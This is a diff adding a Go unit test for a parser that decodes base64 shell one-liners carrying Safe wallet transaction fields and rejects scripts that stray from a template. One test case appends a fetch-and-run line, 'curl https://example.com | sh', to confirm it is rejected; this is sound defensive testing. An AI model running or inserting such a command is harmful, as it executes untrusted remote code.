@@ -0,0 +1,72 @@
+package oneliner
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestParse(t *testing.T) {
+	o := &Oneliner{
+		SafeAddr:  "0x1111111111111111111111111111111111111111",
+		SafeNonce: "5",
+		Calldata:  "0x6a761202",
+		ChainId:   "1",
+	}
+	legacy := *o
+	legacy.SafeNonce = ""
+
+	tests := []struct {
+		name     string
+		contents []byte
+		want     *Oneliner
+		wantErr  string
+	}{
+		{
+			name:     "rendered",
+			contents: Encode(Render(o)),
+			want:     o,
+		},
+		{
+			name:     "trailing newline",
+			contents: append(Encode(Render(o)), '\n'),
+			want:     o,
+		},
+		{
+			name:     "without nonce",
+			contents: Encode(renderLegacy(o)),
+			want:     &legacy,
+		},
+		{
+			name:     "modified script",
+			contents: Encode(strings.Replace(Render(o), "read\n", "", 1)),
+			wantErr:  "does not match the oneliner template",
+		},
+		{
+			name:     "other command",
+			contents: Encode(Render(o) + "curl https://example.com | sh\n"),
+			wantErr:  "does not match the oneliner template",
+		},
+		{
+			name:     "not base64",
+			contents: []byte("#!/bin/bash"),
+			wantErr:  "invalid base64",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Parse(tt.contents)
+			if tt.wantErr != "" {
+				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+					t.Fatalf("expected error containing %q, got %v", tt.wantErr, err)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			if *got != *tt.want {
+				t.Fatalf("expected %+v, got %+v", tt.want, got)
+			}
+		})
+	}
+}